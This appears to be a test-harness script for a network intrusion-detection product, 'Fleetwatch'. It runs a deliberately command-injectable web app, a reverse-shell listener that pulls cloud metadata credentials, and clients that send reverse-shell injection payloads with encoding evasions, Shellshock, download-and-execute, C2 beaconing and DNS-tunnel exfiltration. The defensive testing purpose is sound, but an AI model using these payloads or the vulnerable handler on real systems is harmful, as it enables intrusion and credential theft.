#!/usr/bin/env python3
"""Servers and clients of the Fleetwatch namespace scenarios (stdlib only).

Each subcommand runs inside one namespace (started by integration/lib/netns.sh) and talks only to
addresses of that sandbox. Run `services.py SUBCOMMAND --help` for the options.

Servers: vulnapp (our deliberately vulnerable web app), web, metadata, ntp, echo, ssh, listener.
Clients: noise, visitor, health, admin, inject, beacon, tunnel, dnsq.
"""
import argparse
import http.client
import http.server
import json
import os
import random
import socket
import socketserver
import ssl
import struct
import subprocess
import sys
import threading
import time
import urllib.parse


def log(*parts):
    print(time.strftime("%H:%M:%S"), *parts, flush=True)


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True


class QuietHandler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, fmt, *args):
        log(self.address_string(), fmt % args)

    def reply(self, code, body, content_type="text/plain"):
        data = body.encode() if isinstance(body, str) else body
        self.send_response(code)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


# --- The vulnerable app ------------------------------------------------------------------------

class VulnHandler(QuietHandler):
    """GET /dangerzone?category=X runs `echo X` through sh (bash as sh, as on Amazon Linux).

    The category is taken naively: everything after `category=`, form-decoded once (`+` is a space). A raw request line
    with spaces is accepted (lenient servers do), so the raw variants of the story work too.
    """
    server_version = "Express"

    def parse_request(self):
        line = str(self.raw_requestline, "iso-8859-1").rstrip("\r\n")
        parts = line.split(" ")
        if len(parts) > 3 and parts[-1].startswith("HTTP/"):
            target = " ".join(parts[1:-1]).replace(" ", "%20")
            self.raw_requestline = (parts[0] + " " + target + " " + parts[-1] + "\r\n").encode("iso-8859-1")
        return super().parse_request()

    def do_GET(self):
        url = urllib.parse.urlsplit(self.path)
        if url.path == "/health":
            return self.reply(200, '{"status":"ok"}', "application/json")
        if url.path != "/dangerzone":
            return self.reply(404, "not found")
        query = url.query
        category = urllib.parse.unquote_plus(query.split("category=", 1)[1]) if "category=" in query else "all"
        # The hole: the parameter goes to a shell.
        process = subprocess.Popen(["sh", "-c", "echo " + category], executable="/bin/bash",
                                   stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                   start_new_session=True)
        output = b""
        try:
            output, _ = process.communicate(timeout=1.5)
        except subprocess.TimeoutExpired:
            output = b"(still running)\n"
        log("ran category", repr(category), "pid", process.pid)
        self.reply(200, json.dumps({"category": category, "items": output.decode("utf-8", "replace")}),
                   "application/json")


def vulnapp(args):
    server = Server((args.bind, args.port), VulnHandler)
    log("vulnapp on", args.bind, args.port)
    server.serve_forever()


# --- Web hosts, metadata, time, database --------------------------------------------------------

def web(args):
    name = args.name

    class Handler(QuietHandler):
        server_version = "nginx"

        def do_GET(self):
            if self.path.endswith(".sh"):
                return self.reply(200, "id\nuname -a\n", "text/x-sh")
            if self.path.startswith("/jokes"):
                body = json.dumps({"id": random.randrange(1 << 30), "value": "Chuck Norris counted to infinity. Twice."})
                return self.reply(200, body, "application/json")
            self.reply(200, "<html><body>%s %s</body></html>" % (name, self.path), "text/html")

        def do_POST(self):
            length = int(self.headers.get("Content-Length") or 0)
            self.rfile.read(min(length, 1 << 20))
            self.reply(200, '{"ok":true}', "application/json")

    servers = []
    plain = Server((args.bind, 80), Handler)
    servers.append(plain)
    if args.cert:
        secure = Server((args.bind, 443), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(args.cert, args.key)
        secure.socket = context.wrap_socket(secure.socket, server_side=True)
        servers.append(secure)
    for extra in args.port:
        servers.append(Server((args.bind, extra), Handler))
    for server in servers[1:]:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    log("web", name, "on", args.bind, [s.server_address[1] for s in servers])
    plain.serve_forever()


def metadata(args):
    class Handler(QuietHandler):
        server_version = "EC2ws"

        def do_PUT(self):
            if self.path == "/latest/api/token":
                return self.reply(200, "AQAEAFleetwatchTestToken==")
            self.reply(404, "not found")

        def do_GET(self):
            answers = {
                "/latest/meta-data/": "ami-id\nhostname\ninstance-id\niam/\nlocal-ipv4\n",
                "/latest/meta-data/instance-id": "i-0fleetwatch0000001",
                "/latest/meta-data/local-ipv4": "172.31.6.55",
                "/latest/meta-data/iam/security-credentials/": "app-role",
                "/latest/meta-data/iam/security-credentials/app-role":
                    '{"Code":"Success","AccessKeyId":"ASIAFLEETWATCHTEST","SecretAccessKey":"not-a-secret"}',
            }
            if self.path in answers:
                return self.reply(200, answers[self.path])
            self.reply(404, "not found")

    server = Server((args.bind, 80), Handler)
    log("metadata on", args.bind)
    server.serve_forever()


def ntp(args):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((args.bind, 123))
    log("ntp on", args.bind)
    while True:
        data, peer = sock.recvfrom(512)
        if len(data) < 48:
            continue
        now = time.time() + 2208988800
        stamp = struct.pack("!II", int(now), int((now % 1) * (1 << 32)))
        reply = bytes([0x24, 3, 0, 0xE9]) + bytes(20) + data[40:48] + stamp + stamp
        sock.sendto(reply, peer)


class EchoHandler(socketserver.BaseRequestHandler):
    banner = b""

    def handle(self):
        if self.banner:
            self.request.sendall(self.banner)
        while True:
            data = self.request.recv(4096)
            if not data:
                return
            self.request.sendall(data)


class TCPServer(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


def echo(args):
    handler = type("Handler", (EchoHandler,), {"banner": args.banner.encode().decode("unicode_escape").encode()})
    server = TCPServer((args.bind, args.port), handler)
    log("echo on", args.bind, args.port)
    server.serve_forever()


# --- The attacker's listener -------------------------------------------------------------------

def listener(args):
    """Accepts reverse shells; drives each through a few commands, then holds it open."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((args.bind, args.port))
    sock.listen(4)
    log("listener on", args.bind, args.port)
    commands = ["id", "uname -a", "curl -s -m 3 http://169.254.42.254/latest/meta-data/iam/security-credentials/",
                "curl -s -m 3 http://169.254.42.254/latest/meta-data/iam/security-credentials/app-role"]
    while True:
        conn, peer = sock.accept()
        try:
            drive_shell(conn, peer, commands, args)
        except OSError as error:
            log("shell from", peer, "ended:", error)
        finally:
            conn.close()
        if args.once:
            return


def drive_shell(conn, peer, commands, args):
    """Runs `commands` through one reverse shell, then keeps it open `args.hold` seconds."""
    log("shell from", peer)
    conn.settimeout(1.0)
    transcript = b""

    def drain():
        nonlocal transcript
        try:
            while True:
                data = conn.recv(4096)
                if not data:
                    return False
                transcript += data
        except socket.timeout:
            return True

    drain()
    alive = True
    for command in commands:
        conn.sendall(command.encode() + b"\n")
        if not drain():
            alive = False
            break
    end = time.time() + args.hold
    while alive and time.time() < end:
        try:
            conn.sendall(b"\n")
        except OSError:
            break
        alive = drain()
        time.sleep(max(0.0, min(args.keepalive, end - time.time())))
    try:
        conn.sendall(b"exit\n")
        time.sleep(0.5)
    except OSError:
        pass
    log("shell closed; transcript:", transcript.decode("utf-8", "replace").replace("\n", " | ")[:2000])


# --- Clients ---------------------------------------------------------------------------------

UNVERIFIED = ssl._create_unverified_context()


def attempt(label, function):
    try:
        function()
    except Exception as error:  # noise must not stop on one failed call
        log(label, "failed:", error)


def noise(args):
    """Benign traffic of a VM: DNS + HTTPS/HTTP, metadata, time, intra-VPC database calls."""
    deadline = time.time() + args.duration
    rounds = 0
    while time.time() < deadline and rounds < args.rounds:
        rounds += 1

        def github():
            conn = http.client.HTTPSConnection("github.com", 443, timeout=5, context=UNVERIFIED)
            conn.request("GET", "/fleetwatch/releases", headers={"User-Agent": "git/2.39.5"})
            conn.getresponse().read()
            conn.close()

        def joke():
            conn = http.client.HTTPConnection("api.chucknorris.io", 80, timeout=5)
            conn.request("GET", "/jokes/random", headers={"User-Agent": "node-fetch/1.0"})
            conn.getresponse().read()
            conn.close()

        def joke_tls():
            conn = http.client.HTTPSConnection("api.chucknorris.io", 443, timeout=5, context=UNVERIFIED)
            conn.request("GET", "/jokes/random")
            conn.getresponse().read()
            conn.close()

        def imds():
            conn = http.client.HTTPConnection(args.metadata, 80, timeout=3)
            conn.request("PUT", "/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
            token = conn.getresponse().read().decode()
            conn.request("GET", "/latest/meta-data/instance-id", headers={"X-aws-ec2-metadata-token": token})
            conn.getresponse().read()
            conn.close()

        def time_sync():
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.settimeout(2)
            sock.sendto(bytes([0x23]) + bytes(47), (args.time, 123))
            sock.recvfrom(512)
            sock.close()

        def database():
            with socket.create_connection((args.db, 5432), timeout=3) as sock:
                for _ in range(3):
                    sock.sendall(b"Q\x00\x00\x00\x1dSELECT * FROM jokes LIMIT 1\x00")
                    sock.recv(4096)

        for label, function in [("github", github), ("joke", joke), ("joke-tls", joke_tls), ("imds", imds),
                                ("time", time_sync), ("db", database)]:
            attempt(label, function)
            time.sleep(random.uniform(0.1, 0.6))
        time.sleep(random.uniform(args.pause * 0.5, args.pause * 1.5))
    log("noise done after", rounds, "rounds")


def visitor(args):
    """Ordinary requests to the app (from outside, or intra-VPC health checks)."""
    for index in range(args.count):
        def one():
            conn = http.client.HTTPConnection(args.host, args.port, timeout=5)
            path = args.path if args.path else "/dangerzone?category=" + random.choice(["fashion", "books", "garden"])
            conn.request("GET", path, headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"})
            conn.getresponse().read()
            conn.close()
        attempt("visit", one)
        time.sleep(random.uniform(args.pause * 0.5, args.pause * 1.5))


def admin(args):
    """An SSH-like session: banner exchange, then keystrokes and echoes for `duration` seconds."""
    with socket.create_connection((args.host, 22), timeout=5) as sock:
        sock.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
        sock.recv(256)
        end = time.time() + args.duration
        while time.time() < end:
            sock.sendall(os.urandom(random.choice([36, 52, 68])))
            sock.recv(4096)
            time.sleep(random.uniform(0.2, 1.5))
    log("admin session closed")


def inject(args):
    """Sends the story's injection to the app: percent-encoded (as curl does) or raw on the request line."""
    payloads = {
        "devtcp": "fashion&&sh -i >& /dev/tcp/%s/%d 0>&1" % (args.callback, args.callback_port),
        "python": ("fashion&&export RHOST=\"%s\";export RPORT=%d;python3 -c 'import sys,socket,os,pty;"
                   "s=socket.socket();s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))));"
                   "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn(\"sh\")'") % (args.callback, args.callback_port),
    }
    payload = payloads[args.payload]
    if args.raw:
        target = "/dangerzone?category=" + payload
    else:
        target = "/dangerzone?category=" + urllib.parse.quote(payload, safe="/")
    command = ["curl", "-s", "-m", str(args.timeout), "-A", "curl/7.88.1",
               "--request-target", target, "http://%s:%d/" % (args.host, args.port)]
    log("inject", target)
    result = subprocess.run(command, capture_output=True, timeout=args.timeout + 5)
    log("curl exit", result.returncode, result.stdout[:200])


def evasions(args):
    """Injection variants an IDS must see through; each names the callback with its own port (5001...)."""
    import base64
    cb = args.callback
    quote = lambda text: urllib.parse.quote(text, safe="/")
    blob = base64.b64encode(("bash -i >& /dev/tcp/%s/5004 0>&1" % cb).encode()).decode()
    targets = [
        # `+` for spaces, as HTML forms send them.
        "/dangerzone?category=" + urllib.parse.quote_plus("fashion;bash -c 'bash -i >& /dev/tcp/%s/5001 0>&1'" % cb),
        # Encoded twice (the app decodes once: no callback, still an attempt).
        "/dangerzone?category=" + quote(quote("fashion&&sh -i >& /dev/tcp/%s/5002 0>&1" % cb)),
        # ${IFS} instead of spaces.
        "/dangerzone?category=" + quote("fashion;bash${IFS}-c${IFS}'bash${IFS}-i>&/dev/tcp/%s/5003<&1'" % cb),
        # The shell command as a base64 blob.
        "/dangerzone?category=" + quote("fashion;echo${IFS}%s|base64${IFS}-d|bash" % blob),
        # IIS-style %u escapes (the app does not decode them: an attempt).
        "/dangerzone?category=fashion%u0026%u0026sh%u0020-i%u0020%u003e%u0026%u0020/dev/tcp/" + cb + "/5005%u00200%u003e%u00261",
        # Command substitution.
        "/dangerzone?category=" + quote("fashion$(bash -c 'bash -i >& /dev/tcp/%s/5006 0>&1')" % cb),
        # Download and execute.
        "/dangerzone?category=" + quote("fashion;curl -s http://%s:5007/s.sh|sh" % cb),
        # nc -e (no nc on the VM: an attempt).
        "/dangerzone?category=" + quote("fashion||nc -e /bin/sh %s 5008" % cb),
    ]
    for target in targets:
        command = ["curl", "-s", "-m", "3", "-A", "curl/7.88.1", "--request-target", target,
                   "http://%s:%d/" % (args.host, args.port)]
        log("inject", target)
        result = subprocess.run(command, capture_output=True, timeout=10)
        log("curl exit", result.returncode, result.stdout[:160])
        time.sleep(args.pause)
    # Shellshock in a header of an ordinary request (the app ignores it: an attempt).
    command = ["curl", "-s", "-m", "3", "-A", "() { :; }; /bin/bash -c 'bash -i >& /dev/tcp/%s/5009 0>&1'" % cb,
               "http://%s:%d/cgi-bin/status" % (args.host, args.port)]
    log("shellshock", subprocess.run(command, capture_output=True, timeout=10).returncode)


def beacon(args):
    """Regular check-ins of an implant to its server: same interval, same size."""
    for index in range(args.count):
        def one():
            conn = http.client.HTTPConnection(args.host, args.port, timeout=3)
            body = b"id=vm1&seq=%05d&status=idle" % (index % 100000)
            conn.request("POST", "/api/v2/checkin", body=body,
                         headers={"User-Agent": "Mozilla/5.0", "Content-Type": "application/x-www-form-urlencoded"})
            conn.getresponse().read()
            conn.close()
        attempt("beacon", one)
        time.sleep(args.interval + random.uniform(-args.jitter, args.jitter))


def dns_query(name, qtype, server, timeout=1.0):
    ident = random.randrange(1 << 16)
    header = struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0)
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\x00"
    packet = header + question + struct.pack("!HH", qtype, 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(timeout)
    try:
        sock.sendto(packet, (server, 53))
        return sock.recvfrom(4096)[0]
    except socket.timeout:
        return None
    finally:
        sock.close()


def tunnel(args):
    """Data out through DNS: base32 chunks as long labels under one domain (A and TXT queries)."""
    import base64
    secret = os.urandom(args.bytes)
    encoded = base64.b32encode(secret).decode().rstrip("=").lower()
    chunks = [encoded[i:i + args.label] for i in range(0, len(encoded), args.label)]
    for index, chunk in enumerate(chunks):
        name = "%s.%d.%s" % (chunk, index, args.domain)
        dns_query(name, 16 if index % 3 == 0 else 1, args.server)
        time.sleep(args.pause)
    log("tunnel sent", len(chunks), "queries")


def dnsq(args):
    answer = dns_query(args.name, args.qtype, args.server)
    print("answer" if answer else "timeout", len(answer or b""))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("vulnapp"); p.add_argument("--bind", default="0.0.0.0"); p.add_argument("--port", type=int, default=3000)
    p.set_defaults(run=vulnapp)
    p = sub.add_parser("web"); p.add_argument("--bind", default="0.0.0.0"); p.add_argument("--name", required=True)
    p.add_argument("--cert"); p.add_argument("--key"); p.add_argument("--port", type=int, action="append", default=[])
    p.set_defaults(run=web)
    p = sub.add_parser("metadata"); p.add_argument("--bind", required=True); p.set_defaults(run=metadata)
    p = sub.add_parser("ntp"); p.add_argument("--bind", required=True); p.set_defaults(run=ntp)
    p = sub.add_parser("echo"); p.add_argument("--bind", default="0.0.0.0"); p.add_argument("--port", type=int, required=True)
    p.add_argument("--banner", default=""); p.set_defaults(run=echo)
    p = sub.add_parser("listener"); p.add_argument("--bind", default="0.0.0.0"); p.add_argument("--port", type=int, default=3000)
    p.add_argument("--hold", type=float, default=20); p.add_argument("--keepalive", type=float, default=2)
    p.add_argument("--once", action="store_true"); p.set_defaults(run=listener)

    p = sub.add_parser("noise"); p.add_argument("--duration", type=float, default=30); p.add_argument("--rounds", type=int, default=8)
    p.add_argument("--pause", type=float, default=3); p.add_argument("--metadata", default="169.254.42.254")
    p.add_argument("--time", default="169.254.42.123"); p.add_argument("--db", default="172.31.9.10")
    p.set_defaults(run=noise)
    p = sub.add_parser("visitor"); p.add_argument("--host", required=True); p.add_argument("--port", type=int, default=3000)
    p.add_argument("--count", type=int, default=5); p.add_argument("--pause", type=float, default=3); p.add_argument("--path")
    p.set_defaults(run=visitor)
    p = sub.add_parser("admin"); p.add_argument("--host", required=True); p.add_argument("--duration", type=float, default=30)
    p.set_defaults(run=admin)
    p = sub.add_parser("inject"); p.add_argument("--host", required=True); p.add_argument("--port", type=int, default=3000)
    p.add_argument("--callback", required=True); p.add_argument("--callback-port", type=int, default=3000)
    p.add_argument("--payload", choices=["devtcp", "python"], default="devtcp"); p.add_argument("--raw", action="store_true")
    p.add_argument("--timeout", type=float, default=4); p.set_defaults(run=inject)
    p = sub.add_parser("evasions"); p.add_argument("--host", required=True); p.add_argument("--port", type=int, default=3000)
    p.add_argument("--callback", required=True); p.add_argument("--pause", type=float, default=1.5)
    p.set_defaults(run=evasions)
    p = sub.add_parser("beacon"); p.add_argument("--host", required=True); p.add_argument("--port", type=int, default=8443)
    p.add_argument("--count", type=int, default=25); p.add_argument("--interval", type=float, default=2)
    p.add_argument("--jitter", type=float, default=0.05); p.set_defaults(run=beacon)
    p = sub.add_parser("tunnel"); p.add_argument("--server", required=True); p.add_argument("--domain", required=True)
    p.add_argument("--bytes", type=int, default=4000); p.add_argument("--label", type=int, default=48)
    p.add_argument("--pause", type=float, default=0.02); p.set_defaults(run=tunnel)
    p = sub.add_parser("dnsq"); p.add_argument("--server", required=True); p.add_argument("--name", required=True)
    p.add_argument("--qtype", type=int, default=1); p.set_defaults(run=dnsq)

    args = parser.parse_args()
    args.run(args)


if __name__ == "__main__":
    main()
